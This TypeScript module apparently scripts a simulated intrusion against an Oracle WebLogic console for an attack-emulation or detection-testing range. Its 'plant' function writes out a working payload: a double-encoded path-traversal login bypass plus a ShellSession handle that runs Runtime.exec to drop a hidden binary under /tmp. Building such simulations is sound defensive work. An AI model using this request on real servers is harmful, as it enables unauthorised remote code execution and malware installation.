// A scanner asked before; the one who came in went past the login with a path encoded twice.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { ordinary } from '../../past.ts'
import { weblogic } from '../../products.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  dress.logins(ordinary)
  dress.toy(weblogic)
}

export async function plant(stage: Stage): Promise<void> {
  const from = '198.51.100.133'
  const line = dropper(stage, { path: '/tmp/.javae/javae', cron: false })
  await stage.scan('192.0.2.77').catch(() => {})
  await stage.http('192.0.2.77', ':7001/console/login/LoginForm.jsp')
  stage.mark('occurrence')
  const handle = `com.tangosol.coherence.mvel2.sh.ShellSession("java.lang.Runtime.getRuntime().exec('${line}');")`
  await stage.http(from, ':7001/console/css/%252e%252e%252fconsole.portal', `_nfpb=true&_pageLabel=&handle=${encodeURIComponent(handle)}`)
}
